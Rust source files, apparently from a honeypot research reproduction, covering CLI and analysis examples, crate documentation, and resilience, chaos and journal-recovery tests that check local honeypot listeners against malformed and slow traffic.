    let exit_idle_ms: Option<u64> = match args.iter().position(|a| a == "--exit-idle") {
        Some(pos) => Some(
            args.get(pos + 1)
                .and_then(|v| v.parse().ok())
                .ok_or_else(|| usage_err("--exit-idle needs a duration in milliseconds"))?,
        ),
        None => None,
    };
    eprintln!("following journal at {dir} (fold-as-you-ingest)");
    let mut live = LiveReport::open(&demo_config(), dir);
    let mut idle_ms: u64 = 0;
    loop {
        let folded = live.poll()?;
        if let Some(err) = live.journal_error() {
            eprintln!("journal damaged; report covers the prefix before it: {err}");
            break;
        }
        if folded > 0 {
            idle_ms = 0;
            eprintln!("folded {folded} events ({} total)", live.events_seen());
        } else {
            idle_ms = idle_ms.saturating_add(200);
            if exit_idle_ms.is_some_and(|limit| live.events_seen() > 0 && idle_ms >= limit) {
                eprintln!("journal idle for {idle_ms} ms; rendering the final report");
                break;
            }
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    print!("{}", live.render().render_text());
    Ok(())
}

/// Join several journal shards into one globally ordered report.
fn merge_mode(args: &[String]) -> std::io::Result<()> {
    let dirs: Vec<&String> = args
        .iter()
        .skip(1)
        .filter(|a| !a.starts_with("--"))
        .collect();
    if dirs.len() < 2 {
        return Err(usage_err("--merge needs at least two journal directories"));
    }
    eprintln!("merging {} journal shards", dirs.len());
    let (report, stats) = Report::from_shards(demo_config(), &dirs)?;
    eprintln!("merge: {}", stats.summary());
    if stats.error.is_some() {
        eprintln!(
            "warning: shard coverage is damaged or incomplete; the report covers what survived"
        );
    }
    print!("{}", report.render_text());
    Ok(())
}

/// The original JSON-lines pipeline demo.
async fn json_demo(path: Option<String>) -> std::io::Result<()> {
    let text = match &path {
        Some(p) => {
            eprintln!("loading dataset from {p}");
            std::fs::read_to_string(p)?
        }
        None => {
            eprintln!("no dataset given; generating a demonstration capture (scale 0.01)");
            let result = run(ExperimentConfig::direct(7, 0.01)).await?;
            result.store.to_json_lines()
        }
    };
    let store = EventStore::from_json_lines(&text)
        .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?;
    let geo = GeoDb::builtin();
    println!(
        "dataset: {} events from {} sources",
        store.len(),
        store.sources().len()
    );

    // enrichment coverage
    let mapped = store
        .sources()
        .iter()
        .filter(|ip| geo.lookup(**ip).is_some())
        .count();
    println!(
        "enrichment: {mapped}/{} sources resolve to an AS/country",
        store.sources().len()
    );

    // classification + campaign tags per family
    println!("\nper-family classification (scanning/scouting/exploiting):");
    for dbms in Dbms::all() {
        let profiles = classify_sources(&store, Some(dbms));
        if profiles.is_empty() {
            continue;
        }
        let counts = ClassCounts::from_profiles(profiles.values());
        println!(
            "  {:<11} {:>5} sources: {:>5} / {:>5} / {:>5}",
            dbms.label(),
            counts.total(),
            counts.scanning,
            counts.scouting,
            counts.exploiting
        );
    }

    let mut tag_totals: BTreeMap<&str, usize> = BTreeMap::new();
    for tags in tag_sources(&store, None).values() {
        for tag in tags {
            *tag_totals.entry(tag.label()).or_insert(0) += 1;
        }
    }
    println!("\ncampaign tags:");
    for (tag, n) in &tag_totals {
        println!("  {tag:<24} {n}");
    }

    // cluster inventory for one family, for manual review (§6.1)
    let redis = cluster_sources(&store, Some(Dbms::Redis), 0.05);
    if !redis.assignments.is_empty() {
        println!(
            "\nRedis cluster inventory ({} clusters over {} sources):",
            redis.num_clusters,
            redis.assignments.len()
        );
        print!("{}", redis.render_summary(8, 4));
    }
    Ok(())
}
