//! Analyze a previously captured dataset — the consumer side of the paper's
//! public-dataset release (Appendix B).
//!
//! Run: `cargo run --release --example dataset_analysis [dataset.jsonl]`
//!
//! Without an argument, a small demonstration dataset is generated first
//! (the same JSON-lines format `live_fleet` exports). The example then runs
//! the full pipeline over it: enrichment, classification, clustering,
//! campaign tagging, and a cluster inventory for manual review.

use decoy_databases::analysis::classify::{classify_sources, ClassCounts};
use decoy_databases::analysis::cluster::cluster_sources;
use decoy_databases::analysis::tagging::tag_sources;
use decoy_databases::core::runner::{run, ExperimentConfig};
use decoy_databases::geo::GeoDb;
use decoy_databases::store::{Dbms, EventStore};
use std::collections::BTreeMap;

#[tokio::main]
async fn main() -> std::io::Result<()> {
    let path = std::env::args().nth(1);
    let text = match &path {
        Some(p) => {
            eprintln!("loading dataset from {p}");
            std::fs::read_to_string(p)?
        }
        None => {
            eprintln!("no dataset given; generating a demonstration capture (scale 0.01)");
            let result = run(ExperimentConfig::direct(7, 0.01)).await?;
            result.store.to_json_lines()
        }
    };
    let store = EventStore::from_json_lines(&text)
        .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?;
    let geo = GeoDb::builtin();
    println!(
        "dataset: {} events from {} sources",
        store.len(),
        store.sources().len()
    );

    // enrichment coverage
    let mapped = store
        .sources()
        .iter()
        .filter(|ip| geo.lookup(**ip).is_some())
        .count();
    println!(
        "enrichment: {mapped}/{} sources resolve to an AS/country",
        store.sources().len()
    );

    // classification + campaign tags per family
    println!("\nper-family classification (scanning/scouting/exploiting):");
    for dbms in Dbms::all() {
        let profiles = classify_sources(&store, Some(dbms));
        if profiles.is_empty() {
            continue;
        }
        let counts = ClassCounts::from_profiles(profiles.values());
        println!(
            "  {:<11} {:>5} sources: {:>5} / {:>5} / {:>5}",
            dbms.label(),
            counts.total(),
            counts.scanning,
            counts.scouting,
            counts.exploiting
        );
    }

    let mut tag_totals: BTreeMap<&str, usize> = BTreeMap::new();
    for tags in tag_sources(&store, None).values() {
        for tag in tags {
            *tag_totals.entry(tag.label()).or_insert(0) += 1;
        }
    }
    println!("\ncampaign tags:");
    for (tag, n) in &tag_totals {
        println!("  {tag:<24} {n}");
    }

    // cluster inventory for one family, for manual review (§6.1)
    let redis = cluster_sources(&store, Some(Dbms::Redis), 0.05);
    if !redis.assignments.is_empty() {
        println!(
            "\nRedis cluster inventory ({} clusters over {} sources):",
            redis.num_clusters,
            redis.assignments.len()
        );
        print!("{}", redis.render_summary(8, 4));
    }
    Ok(())
}
