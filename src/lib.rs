#![warn(missing_docs)]
#![forbid(unsafe_code)]

//! # Decoy Databases
//!
//! A production-quality Rust reproduction of *"Decoy Databases: Analyzing
//! Attacks on Public Facing Databases"* (IMC 2025): a fleet of database
//! honeypots (low/medium/high interaction, six DBMS wire protocols
//! implemented from scratch), an attacker-population simulator standing in
//! for the live Internet, and the full analysis pipeline — behavioral
//! classification, TF + Ward clustering, campaign tagging, and every table
//! and figure of the paper's evaluation.
//!
//! ## Crate map
//!
//! | Facade module | Crate | Contents |
//! |---|---|---|
//! | [`net`] | `decoy-net` | framing, PROXY protocol, listeners, virtual time |
//! | [`wire`] | `decoy-wire` | MySQL, PostgreSQL, TDS, RESP, MongoDB+BSON, HTTP codecs |
//! | [`store`] | `decoy-store` | event store, Redis-like keyspace, mini document DB |
//! | [`fakedata`] | `decoy-fakedata` | Mockaroo-style bait data |
//! | [`geo`] | `decoy-geo` | GeoIP/ASN enrichment (prefix trie + AS registry) |
//! | [`honeypots`] | `decoy-honeypots` | the five honeypot families of Table 3 |
//! | [`agents`] | `decoy-agents` | attacker cohorts, campaign scripts, drivers |
//! | [`analysis`] | `decoy-analysis` | classification, clustering, tables, figures |
//! | [`core`] | `decoy-core` | Table 4 deployment, experiment runner, report |
//!
//! ## Quickstart
//!
//! ```no_run
//! use decoy_databases::core::runner::{run, ExperimentConfig};
//! use decoy_databases::core::Report;
//!
//! # async fn demo() -> std::io::Result<()> {
//! // Replay a scaled 20-day deployment and regenerate the paper's tables.
//! let result = run(ExperimentConfig::direct(42, 0.05)).await?;
//! println!("{}", Report::generate(&result).render_text());
//! # Ok(())
//! # }
//! ```
//!
//! See `examples/` for runnable entry points and DESIGN.md / EXPERIMENTS.md
//! for the experiment inventory.

pub use decoy_agents as agents;
pub use decoy_analysis as analysis;
pub use decoy_core as core;
pub use decoy_fakedata as fakedata;
pub use decoy_geo as geo;
pub use decoy_honeypots as honeypots;
pub use decoy_net as net;
pub use decoy_store as store;
pub use decoy_wire as wire;
