//! Failure injection: honeypots face adversarial and broken clients by
//! definition. These tests throw pathological traffic at every family and
//! assert the listener keeps serving, nothing panics, and the hostile input
//! is *logged* rather than dropped on the floor.
//!
//! Synchronization discipline: every "did the server see it?" check waits
//! on the event log via [`common::wait_for_events`] — never on bare sleeps,
//! which made this suite timing-sensitive on loaded CI machines.

mod common;

use common::wait_for_events;
use decoy_databases::core::deployment::instance_seed;
use decoy_databases::honeypots::deploy::{
    spawn, spawn_with_options, HoneypotSpec, RunningHoneypot,
};
use decoy_databases::net::framed::Framed;
use decoy_databases::net::server::{ListenerOptions, SessionLimits};
use decoy_databases::net::time::Clock;
use decoy_databases::store::{
    ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel,
};
use decoy_databases::wire::resp::{RespCodec, RespValue};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

/// Log-wait budget: generous because CI machines stall, harmless when fast.
const LOG_WAIT: Duration = Duration::from_secs(20);

async fn spawn_family(
    dbms: Dbms,
    level: InteractionLevel,
    config: ConfigVariant,
) -> (RunningHoneypot, Arc<EventStore>) {
    let store = EventStore::new();
    let id = HoneypotId::new(dbms, level, config, 0);
    let hp = spawn(
        store.clone(),
        HoneypotSpec::loopback(id, Clock::simulated(), instance_seed(3, id)),
    )
    .await
    .expect("spawn");
    (hp, store)
}

fn count_kind(store: &EventStore, pred: impl Fn(&EventKind) -> bool) -> usize {
    store.fold(0usize, |n, e| if pred(&e.kind) { n + 1 } else { n })
}

/// Every family survives random garbage and keeps serving real clients.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn garbage_flood_does_not_wedge_any_family() {
    let families = [
        (
            Dbms::MySql,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
        ),
        (
            Dbms::Postgres,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
        ),
        (
            Dbms::Redis,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
        ),
        (
            Dbms::Mssql,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
        ),
        (
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
        ),
        (
            Dbms::Postgres,
            InteractionLevel::Medium,
            ConfigVariant::Default,
        ),
        (
            Dbms::Elastic,
            InteractionLevel::Medium,
            ConfigVariant::Default,
        ),
        (
            Dbms::MongoDb,
            InteractionLevel::High,
            ConfigVariant::FakeData,
        ),
    ];
    let mut rng = StdRng::seed_from_u64(0xBAD);
    for (dbms, level, config) in families {
        let (hp, store) = spawn_family(dbms, level, config).await;
        // three floods of random bytes
        for _ in 0..3 {
            let mut garbage = vec![0u8; 4096];
            rng.fill(&mut garbage[..]);
            if let Ok(mut stream) = TcpStream::connect(hp.addr()).await {
                let _ = stream.write_all(&garbage).await;
                let _ = stream.flush().await;
                drop(stream);
            }
        }
        // wait for the floods to land in the log: connects plus a hostile
        // trace (fault capture), not just the TCP handshake
        let logged = wait_for_events(
            &store,
            |s| {
                count_kind(s, |k| *k == EventKind::Connect) >= 3
                    && count_kind(s, |k| {
                        matches!(k, EventKind::Malformed { .. } | EventKind::Payload { .. })
                    }) >= 1
            },
            LOG_WAIT,
        )
        .await;
        assert!(logged, "{dbms:?}: hostile input left no trace");
        // the listener still answers a legitimate probe afterwards
        let probe = TcpStream::connect(hp.addr()).await;
        assert!(probe.is_ok(), "{dbms:?} listener wedged after garbage");
        drop(probe);
        assert!(
            wait_for_events(
                &store,
                |s| count_kind(s, |k| *k == EventKind::Connect) >= 4,
                LOG_WAIT,
            )
            .await,
            "{dbms:?}: probe connect never logged"
        );
        hp.shutdown().await;
    }
}

/// Oversized frames are rejected without killing the listener.
#[tokio::test]
async fn oversized_frame_is_bounded() {
    let (hp, store) = spawn_family(
        Dbms::Redis,
        InteractionLevel::Medium,
        ConfigVariant::Default,
    )
    .await;
    let mut stream = TcpStream::connect(hp.addr()).await.unwrap();
    // declare a 100MB bulk string (over the 4MiB frame cap) and start
    // streaming zeros; the codec must abort rather than buffer it all
    stream
        .write_all(b"*2\r\n$3\r\nSET\r\n$104857600\r\n")
        .await
        .unwrap();
    let chunk = vec![0u8; 64 * 1024];
    for _ in 0..200 {
        if stream.write_all(&chunk).await.is_err() {
            break; // server already hung up — exactly what we want
        }
    }
    drop(stream);
    // the aborted session must close out in the log before we re-probe
    assert!(
        wait_for_events(
            &store,
            |s| count_kind(s, |k| *k == EventKind::Disconnect) >= 1,
            LOG_WAIT,
        )
        .await,
        "oversized session never closed in the log"
    );
    // listener alive
    let stream = TcpStream::connect(hp.addr()).await.unwrap();
    let mut f = Framed::new(stream, RespCodec::client());
    f.write_frame(&RespValue::command(&["PING"])).await.unwrap();
    assert_eq!(
        f.read_frame().await.unwrap().unwrap(),
        RespValue::Simple("PONG".into())
    );
    hp.shutdown().await;
    assert!(!store.is_empty());
}

/// A storm of concurrent connect/disconnect clients is fully accounted for.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_connect_storm_is_fully_logged() {
    let (hp, store) = spawn_family(
        Dbms::Mssql,
        InteractionLevel::Low,
        ConfigVariant::MultiService,
    )
    .await;
    let addr = hp.addr();
    let mut join = tokio::task::JoinSet::new();
    const STORM: usize = 150;
    for _ in 0..STORM {
        join.spawn(async move {
            if let Ok(mut s) = TcpStream::connect(addr).await {
                let _ = s.flush().await;
            }
        });
    }
    while join.join_next().await.is_some() {}
    // A client's connect() returns on SYN-ACK, which can be before the
    // listener has accept()ed it from the backlog — wait on the *log*, not
    // on the socket API, before shutting down.
    wait_for_events(
        &store,
        |s| count_kind(s, |k| *k == EventKind::Connect) >= STORM,
        LOG_WAIT,
    )
    .await;
    hp.shutdown().await;
    let connects = count_kind(&store, |k| *k == EventKind::Connect);
    assert!(
        connects >= STORM * 9 / 10,
        "only {connects}/{STORM} storm connections logged"
    );
}

/// Half-written protocol exchanges (client dies mid-handshake) leave clean
/// connect/disconnect pairs.
#[tokio::test]
async fn half_open_handshakes_close_cleanly() {
    let (hp, store) = spawn_family(
        Dbms::Postgres,
        InteractionLevel::Medium,
        ConfigVariant::Default,
    )
    .await;
    // partial startup packet: length says 50 bytes, we send 8 and die
    let mut stream = TcpStream::connect(hp.addr()).await.unwrap();
    stream.write_all(&[0, 0, 0, 50, 0, 3, 0, 0]).await.unwrap();
    stream.flush().await.unwrap();
    drop(stream);
    assert!(
        wait_for_events(
            &store,
            |s| count_kind(s, |k| *k == EventKind::Disconnect) >= 1,
            LOG_WAIT,
        )
        .await,
        "half-open session never closed"
    );
    hp.shutdown().await;
    let connects = count_kind(&store, |k| *k == EventKind::Connect);
    let disconnects = count_kind(&store, |k| *k == EventKind::Disconnect);
    assert_eq!(connects, 1);
    assert_eq!(disconnects, 1, "session did not close: {:?}", store.all());
}

/// Slowloris regression: a client dripping one byte at a time — fast enough
/// to defeat any idle timeout — must be evicted by the listener-level
/// session deadline on every medium/high family. Before session limits
/// moved into [`SessionLimits`], a drip could hold a session open forever.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn slow_drip_clients_are_evicted_by_the_session_deadline() {
    let families = [
        (
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
        ),
        (
            Dbms::Postgres,
            InteractionLevel::Medium,
            ConfigVariant::Default,
        ),
        (
            Dbms::Elastic,
            InteractionLevel::Medium,
            ConfigVariant::Default,
        ),
        (
            Dbms::MySql,
            InteractionLevel::Medium,
            ConfigVariant::Default,
        ),
        (
            Dbms::CouchDb,
            InteractionLevel::Medium,
            ConfigVariant::FakeData,
        ),
        (
            Dbms::MongoDb,
            InteractionLevel::High,
            ConfigVariant::FakeData,
        ),
    ];
    for (dbms, level, config) in families {
        let store = EventStore::new();
        let id = HoneypotId::new(dbms, level, config, 0);
        let options = ListenerOptions {
            clock: Clock::simulated(),
            limits: SessionLimits {
                // the deadline must win: idle window far above drip cadence
                deadline: Some(Duration::from_millis(700)),
                idle: Some(Duration::from_secs(30)),
                byte_budget: None,
            },
            ..ListenerOptions::default()
        };
        let hp = spawn_with_options(
            store.clone(),
            HoneypotSpec::loopback(id, Clock::simulated(), instance_seed(5, id)),
            options,
        )
        .await
        .expect("spawn");
        let mut stream = TcpStream::connect(hp.addr()).await.expect("connect");
        let start = std::time::Instant::now();
        let mut evicted = false;
        // drip for up to 8s; the 700ms deadline must cut us long before that
        for _ in 0..320 {
            if stream.write_all(&[0x2a]).await.is_err() || stream.flush().await.is_err() {
                evicted = true;
                break;
            }
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
        assert!(evicted, "{dbms:?}: slow drip was never evicted");
        assert!(
            start.elapsed() < Duration::from_secs(6),
            "{dbms:?}: eviction took {:?}",
            start.elapsed()
        );
        // the evicted session still leaves a clean connect/disconnect pair
        assert!(
            wait_for_events(
                &store,
                |s| count_kind(s, |k| *k == EventKind::Disconnect) >= 1,
                LOG_WAIT,
            )
            .await,
            "{dbms:?}: evicted session never logged Disconnect"
        );
        drop(stream);
        hp.shutdown().await;
    }
}
