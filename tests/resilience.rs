//! Failure injection: honeypots face adversarial and broken clients by
//! definition. These tests throw pathological traffic at every family and
//! assert the listener keeps serving, nothing panics, and the hostile input
//! is *logged* rather than dropped on the floor.

use decoy_databases::core::deployment::instance_seed;
use decoy_databases::honeypots::deploy::{spawn, HoneypotSpec, RunningHoneypot};
use decoy_databases::net::framed::Framed;
use decoy_databases::net::time::Clock;
use decoy_databases::store::{
    ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel,
};
use decoy_databases::wire::resp::{RespCodec, RespValue};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::Arc;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

async fn spawn_family(
    dbms: Dbms,
    level: InteractionLevel,
    config: ConfigVariant,
) -> (RunningHoneypot, Arc<EventStore>) {
    let store = EventStore::new();
    let id = HoneypotId::new(dbms, level, config, 0);
    let hp = spawn(
        store.clone(),
        HoneypotSpec::loopback(id, Clock::simulated(), instance_seed(3, id)),
    )
    .await
    .expect("spawn");
    (hp, store)
}

/// Every family survives random garbage and keeps serving real clients.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn garbage_flood_does_not_wedge_any_family() {
    let families = [
        (
            Dbms::MySql,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
        ),
        (
            Dbms::Postgres,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
        ),
        (
            Dbms::Redis,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
        ),
        (
            Dbms::Mssql,
            InteractionLevel::Low,
            ConfigVariant::MultiService,
        ),
        (
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
        ),
        (
            Dbms::Postgres,
            InteractionLevel::Medium,
            ConfigVariant::Default,
        ),
        (
            Dbms::Elastic,
            InteractionLevel::Medium,
            ConfigVariant::Default,
        ),
        (
            Dbms::MongoDb,
            InteractionLevel::High,
            ConfigVariant::FakeData,
        ),
    ];
    let mut rng = StdRng::seed_from_u64(0xBAD);
    for (dbms, level, config) in families {
        let (hp, store) = spawn_family(dbms, level, config).await;
        // three floods of random bytes
        for _ in 0..3 {
            let mut garbage = vec![0u8; 4096];
            rng.fill(&mut garbage[..]);
            if let Ok(mut stream) = TcpStream::connect(hp.addr()).await {
                let _ = stream.write_all(&garbage).await;
                let _ = stream.flush().await;
                drop(stream);
            }
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        // the listener still answers a legitimate probe afterwards
        let probe = TcpStream::connect(hp.addr()).await;
        assert!(probe.is_ok(), "{dbms:?} listener wedged after garbage");
        drop(probe);
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        hp.shutdown().await;
        // the garbage sessions were logged (connects + fault captures)
        let connects = store.filter(|e| e.kind == EventKind::Connect).len();
        assert!(connects >= 3, "{dbms:?}: {connects} connects logged");
        let faults = store.filter(|e| {
            matches!(
                e.kind,
                EventKind::Malformed { .. } | EventKind::Payload { .. }
            )
        });
        assert!(!faults.is_empty(), "{dbms:?}: hostile input left no trace");
    }
}

/// Oversized frames are rejected without killing the listener.
#[tokio::test]
async fn oversized_frame_is_bounded() {
    let (hp, store) = spawn_family(
        Dbms::Redis,
        InteractionLevel::Medium,
        ConfigVariant::Default,
    )
    .await;
    let mut stream = TcpStream::connect(hp.addr()).await.unwrap();
    // declare a 100MB bulk string (over the 4MiB frame cap) and start
    // streaming zeros; the codec must abort rather than buffer it all
    stream
        .write_all(b"*2\r\n$3\r\nSET\r\n$104857600\r\n")
        .await
        .unwrap();
    let chunk = vec![0u8; 64 * 1024];
    for _ in 0..200 {
        if stream.write_all(&chunk).await.is_err() {
            break; // server already hung up — exactly what we want
        }
    }
    drop(stream);
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    // listener alive
    let stream = TcpStream::connect(hp.addr()).await.unwrap();
    let mut f = Framed::new(stream, RespCodec::client());
    f.write_frame(&RespValue::command(&["PING"])).await.unwrap();
    assert_eq!(
        f.read_frame().await.unwrap().unwrap(),
        RespValue::Simple("PONG".into())
    );
    hp.shutdown().await;
    assert!(!store.is_empty());
}

/// A storm of concurrent connect/disconnect clients is fully accounted for.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_connect_storm_is_fully_logged() {
    let (hp, store) = spawn_family(
        Dbms::Mssql,
        InteractionLevel::Low,
        ConfigVariant::MultiService,
    )
    .await;
    let addr = hp.addr();
    let mut join = tokio::task::JoinSet::new();
    const STORM: usize = 150;
    for _ in 0..STORM {
        join.spawn(async move {
            if let Ok(mut s) = TcpStream::connect(addr).await {
                let _ = s.flush().await;
            }
        });
    }
    while join.join_next().await.is_some() {}
    // A client's connect() returns on SYN-ACK, which can be before the
    // listener has accept()ed it from the backlog — wait on the *log*, not
    // on the socket API, before shutting down.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let connects = store.filter(|e| e.kind == EventKind::Connect).len();
        if connects >= STORM || std::time::Instant::now() > deadline {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    hp.shutdown().await;
    let connects = store.filter(|e| e.kind == EventKind::Connect).len();
    assert!(
        connects >= STORM * 9 / 10,
        "only {connects}/{STORM} storm connections logged"
    );
}

/// Half-written protocol exchanges (client dies mid-handshake) leave clean
/// connect/disconnect pairs.
#[tokio::test]
async fn half_open_handshakes_close_cleanly() {
    let (hp, store) = spawn_family(
        Dbms::Postgres,
        InteractionLevel::Medium,
        ConfigVariant::Default,
    )
    .await;
    // partial startup packet: length says 50 bytes, we send 8 and die
    let mut stream = TcpStream::connect(hp.addr()).await.unwrap();
    stream.write_all(&[0, 0, 0, 50, 0, 3, 0, 0]).await.unwrap();
    stream.flush().await.unwrap();
    drop(stream);
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    hp.shutdown().await;
    let events = store.all();
    let connects = events
        .iter()
        .filter(|e| e.kind == EventKind::Connect)
        .count();
    let disconnects = events
        .iter()
        .filter(|e| e.kind == EventKind::Disconnect)
        .count();
    assert_eq!(connects, 1);
    assert_eq!(disconnects, 1, "session did not close: {events:?}");
}
