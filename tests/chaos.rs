//! The deterministic chaos harness: replay a small network-mode experiment
//! with every fault class active — accept-time refusals, listener crashes,
//! mid-stream resets, stalls, 1-byte I/O, and dropped event-store appends —
//! and assert the fleet supervisor keeps the replay usable.
//!
//! Fault decisions are pure functions of `(seed, listener key, session
//! seq)`, so this run is reproducible: reruns with the same seed hit the
//! same sessions with the same faults regardless of task interleaving.

mod common;

use common::wait_for_events;
use decoy_databases::analysis::fleet::{fleet_totals, fleet_uptime};
use decoy_databases::core::report::Report;
use decoy_databases::core::runner::{run, ExperimentConfig};
use decoy_databases::net::chaos::FaultPlan;
use decoy_databases::net::supervisor::HealthState;
use decoy_databases::store::EventKind;
use std::time::Duration;

const SEED: u64 = 904;
const SCALE: f64 = 0.004;

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn chaotic_replay_survives_with_bounded_loss() {
    let mut config = ExperimentConfig::network(SEED, SCALE);
    config.deployment_scale = 0.05;
    // Crash rate above mild(): with a few hundred accepts spread over the
    // fleet, at least one listener crash is certain for this fixed seed.
    let mut plan = FaultPlan::mild(SEED);
    plan.crash_per_mille = 60;
    config.faults = Some(plan);

    let result = run(config).await.expect("chaotic run must complete");

    // Bounded loss: under 10% of planned sessions may fail.
    assert!(result.sessions > 0);
    let loss = result.errors as f64 / result.sessions as f64;
    assert!(
        loss < 0.10,
        "session loss {:.1}% ({} of {})",
        100.0 * loss,
        result.errors,
        result.sessions
    );

    // The supervisor restarted at least one crashed listener, and the final
    // snapshot accounts for every transition.
    let fleet = result.fleet.as_ref().expect("network mode snapshot");
    assert!(
        fleet.restarts_total() >= 1,
        "no supervisor restarts: {}",
        fleet.summary()
    );
    assert!(!fleet.listeners.is_empty());

    // Health transitions were logged into the store (and exempted from the
    // append-drop fault), so the uptime table reflects the restarts.
    let health_logged = wait_for_events(
        &result.store,
        |s| {
            s.fold(false, |hit, e| {
                hit || matches!(e.kind, EventKind::Health { .. })
            })
        },
        Duration::from_secs(5),
    )
    .await;
    assert!(health_logged, "no Health events in the store");
    let rows = fleet_uptime(&result.store);
    assert!(!rows.is_empty());
    let totals = fleet_totals(&rows);
    assert_eq!(
        totals.restarts,
        fleet.restarts_total(),
        "logged restarts diverge from the live snapshot"
    );
    assert!(rows.iter().any(|r| r.degraded >= 1));
    // A restarted listener that re-bound is Degraded or promoted Healthy;
    // every final state must be a coherent member of the state machine.
    for row in &rows {
        assert!(matches!(
            row.final_state,
            HealthState::Healthy | HealthState::Degraded | HealthState::Down
        ));
    }

    // The injectable log-pipeline fault actually dropped appends.
    assert!(
        result.store.dropped_appends() > 0,
        "store fault hook never fired"
    );

    // The report renders under chaos, fleet section included.
    let report = Report::generate(&result);
    let section = report.section("Fleet health").expect("fleet section");
    assert!(
        section.body.contains("restarts"),
        "fleet section body: {}",
        section.body
    );
}

/// The same seed must produce the same fault schedule: the plan's decisions
/// are pure, so two plans constructed alike agree on every session.
#[test]
fn fault_schedule_is_reproducible_across_plan_clones() {
    let a = FaultPlan::mild(SEED);
    let b = a.clone();
    for key in [instance_key(0), instance_key(1), instance_key(2)] {
        for seq in 0..2_000 {
            assert_eq!(a.at_accept(key, seq), b.at_accept(key, seq));
            assert_eq!(a.for_session(key, seq), b.for_session(key, seq));
        }
    }
}

fn instance_key(n: u64) -> u64 {
    // arbitrary distinct listener fault keys
    0xDEC0_1000 + n
}
