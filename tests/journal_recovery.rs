//! Journal crash-recovery campaign: recovery is total and prefix-correct.
//!
//! The durable journal's contract (DESIGN.md §8) is that replaying any
//! corrupted on-disk state (a) never panics and (b) yields a *prefix* of
//! the events that were appended — corruption may cost the tail, never
//! invent, reorder, or duplicate records. This harness attacks that
//! contract three ways:
//!
//! 1. A seeded mutation campaign (`decoy_fuzz::Mutator::mutate_journal`):
//!    byte-level damage inside segments plus whole-segment drops,
//!    duplicates, and reorders. Deterministic — a failure reproduces from
//!    the iteration number alone. `DECOY_FUZZ_ITERS` reduces the count for
//!    CI smoke runs.
//! 2. An exhaustive torn-tail sweep: every possible truncation point of a
//!    single-segment journal must recover silently (a torn final segment
//!    is normal crash debris, not an error).
//! 3. An end-to-end spool test: a run persisted through the event store's
//!    journal sink, abandoned crash-style (destructors skipped), must
//!    replay into a byte-identical report.

use decoy_databases::core::report::Report;
use decoy_databases::core::runner::{run, ExperimentConfig};
use decoy_databases::store::journal::encode;
use decoy_databases::store::{
    recover_events, ConfigVariant, Dbms, Event, EventKind, HoneypotId, InteractionLevel,
};
use decoy_fuzz::{iterations, Mutator};
use std::net::{IpAddr, Ipv4Addr};
use std::panic::{catch_unwind, AssertUnwindSafe};

/// Deterministic event factory covering every kind the journal encodes.
fn sample_event(i: u64) -> Event {
    let kind = match i % 6 {
        0 => EventKind::Connect,
        1 => EventKind::LoginAttempt {
            username: format!("user{i}"),
            password: "hunter2".into(),
            success: i % 5 == 0,
        },
        2 => EventKind::Command {
            action: "INFO".into(),
            raw: format!("INFO server {i}"),
        },
        3 => EventKind::Payload {
            len: 64 + i as usize,
            recognized: if i % 2 == 0 {
                Some("rdp-scan".into())
            } else {
                None
            },
            preview: format!("\\x03\\x00 payload {i}"),
        },
        4 => EventKind::Malformed {
            detail: format!("bad frame at byte {i}"),
        },
        _ => EventKind::Disconnect,
    };
    Event {
        ts: decoy_databases::net::time::Timestamp::from_millis(1000 * i),
        honeypot: HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::FakeData,
            3,
        ),
        src: IpAddr::V4(Ipv4Addr::new(203, 0, 113, (i % 251) as u8 + 1)),
        session: i / 4,
        kind,
    }
}

/// A reference journal: `n` events split across segments of `per_seg`.
fn build_journal(n: u64, per_seg: usize) -> (Vec<Event>, Vec<Vec<u8>>) {
    let events: Vec<Event> = (0..n).map(sample_event).collect();
    let segments: Vec<Vec<u8>> = events
        .chunks(per_seg)
        .enumerate()
        .map(|(i, chunk)| encode::encode_segment((i * per_seg) as u64, chunk))
        .collect();
    (events, segments)
}

#[test]
fn mutated_journals_recover_a_prefix_without_panicking() {
    let (original, segments) = build_journal(200, 50);
    let mut mutator = Mutator::new(0xDECAF_5EED);
    let iters = iterations(10_000);
    for iter in 0..iters {
        let mutant = mutator.mutate_journal(&segments);
        let outcome = catch_unwind(AssertUnwindSafe(|| recover_events(mutant)));
        let (recovered, stats) = match outcome {
            Ok(r) => r,
            Err(_) => panic!("iteration {iter}: recovery panicked"),
        };
        assert!(
            original.starts_with(&recovered),
            "iteration {iter}: recovered {} events that are not a prefix of the original",
            recovered.len()
        );
